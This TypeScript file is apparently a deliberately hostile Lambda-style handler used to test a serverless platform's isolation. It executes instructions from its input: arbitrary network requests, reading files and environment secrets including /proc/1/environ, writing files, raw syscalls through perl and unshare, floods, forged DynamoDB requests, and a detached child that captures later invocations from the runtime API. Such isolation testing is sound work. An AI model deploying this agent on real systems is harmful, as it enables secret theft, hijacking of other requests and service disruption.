import { spawn, spawnSync } from 'node:child_process'
import { createSocket } from 'node:dgram'
import { Resolver } from 'node:dns/promises'
import { readdir, readFile, stat, writeFile } from 'node:fs/promises'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'

import type { Instruction, Outcome } from './instruction.ts'
import { flood } from './flood.ts'
import { probes } from './probes.ts'
import { signedDynamoDb } from './signed-dynamodb.ts'

/** HOSTILE, ON PURPOSE: does whatever the event tells it to, as code would that an attacker controls. */
export const handler = async (event: { readonly body?: string }): Promise<object> => {
  // Parse boundary: the attack wrote it.
  const outcome = await perform(JSON.parse(event.body ?? '{}') as Instruction)
  return { statusCode: 200, headers: { 'content-type': 'application/json' }, body: JSON.stringify(outcome) }
}

/** Carries out one instruction. Never rejects: a failure is an outcome. */
export async function perform(instruction: Instruction): Promise<Outcome> {
  try {
    return await carryOut(instruction)
  } catch (error) {
    const cause = error instanceof Error && error.cause instanceof Error ? error.cause : error
    const code = cause instanceof Error && 'code' in cause ? String(cause.code) : String(cause)
    return { got: false, code, evidence: cause instanceof Error ? cause.message : '' }
  }
}

const patienceMs = 3_000
let unfinished: Socket | undefined
const remembered = new Set<string>()

async function carryOut(instruction: Instruction): Promise<Outcome> {
  switch (instruction.do) {
    case 'http': {
      const { url, method = 'GET', headers = {}, body } = instruction
      const init = { method, headers, signal: AbortSignal.timeout(patienceMs), ...(body === undefined ? {} : { body }) }
      const answer = await fetch(url, init)
      return httpOutcome(answer.status, await answer.text())
    }
    case 'raw': {
      const { host, port, serverName, text } = instruction
      const socket = serverName === undefined ? connect(port, host) : connectTls({ host, port, servername: serverName })
      sendAll(socket, text)
      return rawOutcome(await allOf(socket))
    }
    case 'udp':
      return datagram(instruction.host, instruction.port)
    case 'unix': {
      const socket = connect(instruction.path)
      socket.end('GET /v1/status HTTP/1.1\r\nhost: local\r\nconnection: close\r\n\r\n')
      const answer = await allOf(socket)
      return { got: answer !== '', code: 'connected', evidence: answer.slice(0, 80) }
    }
    case 'dns': {
      const resolver = new Resolver({ timeout: patienceMs, tries: 1 })
      if (instruction.server !== undefined) resolver.setServers([instruction.server])
      const addresses = await resolver.resolve4(instruction.name)
      return { got: true, code: 'resolved', evidence: addresses.join(' ') }
    }
    case 'file': {
      const { path } = instruction
      const found = (await stat(path)).isDirectory() ? (await readdir(path)).join(' ') : await readFile(path, 'latin1')
      return { got: found !== '', code: found === '' ? 'empty' : 'read', evidence: `${found.length} characters` }
    }
    case 'environment': {
      const seen = [
        JSON.stringify(process.env),
        process.argv.join(' '),
        await readFile('/proc/1/environ', 'latin1').catch(() => ''),
      ]
      const got = seen.join('\n').includes(instruction.word)
      return { got, code: got ? 'found' : 'absent', evidence: Object.keys(process.env).join(' ') }
    }
    case 'dynamodb': {
      const answer = await signedDynamoDb(instruction.operation, instruction.input, instruction.forged === true)
      const text = await answer.text()
      return { got: answer.ok, code: codeIn(text) ?? `HTTP ${answer.status}`, evidence: text.slice(0, 300) }
    }
    case 'child':
      return leaveChild(instruction)
    case 'relay': {
      const answer = await fetch(`http://${instruction.to.replace('/', '.fn.internal/')}`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(instruction.next),
      })
      const text = await answer.text()
      if (!answer.ok) return httpOutcome(answer.status, text)
      return JSON.parse(text) as Outcome // parse boundary: the next function is this same code
    }
    case 'timer': {
      const { afterMs, tag, next } = instruction
      setTimeout(() => void perform(next).then((outcome) => console.log(JSON.stringify({ tag, ...outcome }))), afterMs)
      return { got: true, code: 'left', evidence: `a timer of ${afterMs} ms` }
    }
    case 'begin':
      unfinished = connect(instruction.port, instruction.host)
      unfinished.on('error', () => undefined) // seen by `finish`, as a socket that is destroyed
      unfinished.write(instruction.text)
      await sleep(50)
      return { got: !unfinished.destroyed, code: 'begun', evidence: 'half a request' }
    case 'finish': {
      if (unfinished === undefined || unfinished.destroyed)
        return { got: false, code: 'aborted', evidence: 'the connection is gone' }
      sendAll(unfinished, instruction.text)
      return rawOutcome(await allOf(unfinished))
    }
    case 'both': {
      const first = await perform(instruction.first)
      return first.got ? perform(instruction.second) : first
    }
    case 'wait':
      await sleep(instruction.ms)
      return { got: true, code: 'waited', evidence: `${instruction.ms} ms` }
    case 'answer':
      return { got: true, code: 'answered', evidence: 'x'.repeat(instruction.bytes) }
    case 'kernel':
      return enterKernel(instruction)
    case 'write':
      await writeFile(instruction.path, instruction.text)
      return { got: true, code: 'written', evidence: instruction.path }
    case 'probe':
      return probeOutcome(await probes[instruction.name]?.(instruction.canary))
    case 'flood':
      return flood(instruction.of, instruction.forMs, instruction.target ?? {})
    case 'remember':
      remembered.add(instruction.word)
      return { got: true, code: 'remembered', evidence: instruction.word }
    case 'recall': {
      const got = remembered.has(instruction.word)
      return { got, code: got ? 'found' : 'absent', evidence: `${remembered.size} words` }
    }
  }
}

/** Parse boundary: somebody else's probe said it. What says nothing has got nothing, and fails as its own control. */
function probeOutcome(said: unknown): Outcome {
  const { got, code, evidence } = (typeof said === 'object' && said !== null ? said : {}) as Record<string, unknown>
  const named = typeof code === 'string' ? code : got === true ? 'got' : 'nothing'
  return { got: got === true, code: named, evidence: typeof evidence === 'string' ? evidence : '' }
}

/** Perl is part of every Debian and has `syscall`. An error of its own means that the kernel took the call. */
function enterKernel({ call, also, asRoot }: Extract<Instruction, { do: 'kernel' }>): Outcome {
  const numbers = call.map((one) => (one === 'self' ? '$$' : String(one))).join(', ')
  const script = `print syscall(${numbers}) == -1 ? $! + 0 : 0`
  const before = asRoot === true ? ['/usr/bin/unshare', '-U', '-r', '-n'] : []
  const [program, ...argv] = [...before, '/usr/bin/perl', '-e', script]
  const errno = Number(spawnSync(program, argv, { encoding: 'utf8' }).stdout || Number.NaN)
  const refused: Readonly<Record<number, string>> = {
    1: 'EPERM',
    38: 'ENOSYS',
    97: 'EAFNOSUPPORT',
    ...(also === 'EINVAL' ? { 22: 'EINVAL' } : {}),
  }
  const code = refused[errno] ?? `errno ${errno}`
  return { got: !Number.isNaN(errno) && refused[errno] === undefined, code, evidence: `call ${numbers}` }
}

/** A half-closed connection tells a raw listener that all is said; of an HTTP client it would mean that it has gone. */
function sendAll(socket: Socket, text: string): void {
  if (text.includes('connection: close\r\n')) socket.write(text)
  else socket.end(text)
}

async function allOf(socket: Socket): Promise<string> {
  socket.setTimeout(patienceMs, () => socket.destroy(new Error('no answer')))
  const chunks: Buffer[] = []
  for await (const chunk of socket as AsyncIterable<Buffer>) chunks.push(chunk)
  return Buffer.concat(chunks).toString('latin1')
}

function datagram(host: string, port: number): Promise<Outcome> {
  return new Promise((resolve, reject) => {
    const socket = createSocket('udp4')
    const timer = setTimeout(() => socket.close(() => reject(new Error('no answer'))), 1_000)
    const end = (then: () => void): void => {
      clearTimeout(timer)
      socket.close(then)
    }
    socket.once('error', (error) => end(() => reject(error)))
    socket.once('message', (bytes) => end(() => resolve({ got: true, code: 'answered', evidence: bytes.toString() })))
    socket.connect(port, host, () => socket.send('loot'))
  })
}

function httpOutcome(status: number, text: string): Outcome {
  return { got: status < 400, code: codeIn(text) ?? `HTTP ${status}`, evidence: text.slice(0, 300) }
}

/** A refusal's code: ours in JSON, or inside an AWS error's message. */
function codeIn(text: string): string | undefined {
  const found = /"code":\s*"([a-z_]+\.[a-z_.]+)"/.exec(text) ?? /"__type":\s*"[^"#]*#?([A-Za-z]+)"/.exec(text)
  return found?.[1]
}

function rawOutcome(answer: string): Outcome {
  if (answer.startsWith('received')) return { got: true, code: 'received', evidence: answer }
  const status = /^HTTP\/1\.1 (\d{3})/.exec(answer)?.[1]
  if (status === undefined) return { got: false, code: 'closed', evidence: answer.slice(0, 80) }
  return httpOutcome(Number(status), answer.slice(answer.indexOf('\r\n\r\n')))
}

const childSource = `
  const [address, tag, forMs] = process.argv.slice(1)
  const until = Date.now() + Number(forMs)
  let last = 'nothing'
  while (Date.now() < until) {
    try {
      const signal = AbortSignal.timeout(Math.max(until - Date.now(), 1))
      const next = await fetch('http://' + address + '/2018-06-01/runtime/invocation/next', { signal })
      const text = await next.text()
      if (next.ok) {
        console.log(JSON.stringify({ tag, got: true, code: 'event', evidence: text.slice(0, 200) }))
        process.exit()
      }
      last = 'HTTP ' + next.status
    } catch (error) { if (error.name !== 'TimeoutError') last = String((error.cause ?? error).code ?? error.name) }
    await new Promise((resolve) => setTimeout(resolve, 50))
  }
  console.log(JSON.stringify({ tag, got: false, code: last, evidence: 'it asked for ' + forMs + ' ms' }))`

function leaveChild(instruction: Extract<Instruction, { do: 'child' }>): Outcome {
  const address = instruction.runtimeApi ?? process.env['AWS_LAMBDA_RUNTIME_API'] ?? '127.0.0.1:9001'
  const options = ['--input-type=module', '-e', childSource, address, instruction.tag, `${instruction.forMs}`]
  const child = spawn(process.execPath, options, { detached: true, stdio: ['ignore', 'inherit', 'ignore'] })
  return { got: child.pid !== undefined, code: 'left', evidence: 'a child process' }
}
